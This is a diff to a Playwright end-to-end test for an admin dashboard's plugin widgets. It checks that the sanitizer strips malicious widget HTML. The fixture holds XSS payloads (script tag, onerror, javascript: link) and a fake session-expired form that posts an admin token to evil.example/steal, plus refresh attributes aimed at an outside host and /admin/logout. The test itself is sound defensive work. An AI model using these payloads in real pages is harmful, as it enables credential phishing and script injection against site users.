@@ -3,7 +3,9 @@
 // admin token, sees the plugin list, disables and enables a plugin (its route
 // 404s and comes back), views and filters logs, sees the dashboard widgets in
 // order with auto-refresh, and checks that a widget's <script> and onerror
-// never execute.
+// never execute, and that a widget's own refresh attributes (issue 10 item
+// 8: data-refresh-url to another site or to /admin/logout, a fake token
+// form) are gone: the dashboard only ever fetches /admin/widgets/….
 
 import { chromium } from "playwright-core";
 import { MemoryGrantStore } from "../permissions/grants.ts";
@@ -78,6 +80,7 @@ Deno.test({
       title: "GoatKit test",
     });
     let ticks = 0;
+    let evilRenders = 0;
     await m.register(nativePlugin({
       name: "hello",
       version: "1.4.2",
@@ -131,6 +134,11 @@ Deno.test({
     }, {
       xss: () => ({
         html: `<p class="evil-ok">evil widget body</p>` +
+          `<p class="evil-n">render ${++evilRenders}</p>` +
+          `<div class="fake" data-refresh-url="https://evil.example/x" data-refresh-sec="1"` +
+          ` data-gk-refresh-url="/admin/logout" data-gk-refresh-sec="1">` +
+          `<form action="https://evil.example/steal" method="post"><p>Session expired: enter your admin token</p>` +
+          `<input id="fake-token" name="token" type="password"><button>Log in</button></form></div>` +
           `<script>window.__pwned = "script"</script>` +
           `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="window.__pwned='onerror'" onload="window.__pwned='onload'">` +
           `<a href="javascript:window.__pwned='href'" id="evil-link">link</a>`,
@@ -264,6 +272,13 @@ Deno.test({
         });
 
       // Dashboard: widgets in order, sanitised, auto-refreshing; nothing executes.
+      // Every request the dashboard makes from now on is recorded.
+      const fetched: string[] = [];
+      page.on("request", (r) => {
+        if (["fetch", "xhr"].includes(r.resourceType())) fetched.push(r.url());
+      });
+      const anyRequest: string[] = [];
+      page.on("request", (r) => anyRequest.push(r.url()));
       await page.click('nav a[href="/admin/dashboard"]');
       await page.waitForURL(`${base}/admin/dashboard`);
       const titles = await page.locator(".widget header span:first-child")
@@ -282,6 +297,35 @@ Deno.test({
           timeout: 30_000,
         });
       // The evil widget has been refreshed too (innerHTML path): still nothing ran.
+      const firstEvil = await page.locator(".evil-n").innerText();
+      await page.locator(".evil-n", {
+        hasNotText: new RegExp(`^${firstEvil}$`),
+      }).waitFor({ timeout: 30_000 });
+      // Its refresh attributes and fake form are gone, before and after
+      // the refresh, and only the host's widget endpoints were fetched.
+      assertEquals(await page.locator(".fake").count(), 1);
+      assertEquals(await page.locator("#fake-token").count(), 0);
+      assertEquals(await page.locator(".widget form").count(), 0);
+      assertEquals(await page.locator("[data-refresh-url]").count(), 0);
+      assertEquals(
+        await page.locator(".widget .body [data-gk-refresh-url]").count(),
+        0,
+      );
+      assert(fetched.length >= 2, `refreshes: ${fetched}`);
+      for (const u of fetched) {
+        assertMatch(
+          u,
+          new RegExp(
+            `^${
+              base.replaceAll(".", "\\.")
+            }/admin/widgets/(hello/clock|evil/xss)$`,
+          ),
+        );
+      }
+      assert(
+        !anyRequest.some((u) => /evil\.example|\/admin\/logout/.test(u)),
+        `requests: ${anyRequest}`,
+      );
       await page.locator("#evil-link").click().catch(() => {});
       if (SCREENSHOT_DIR) {
         await page.screenshot({
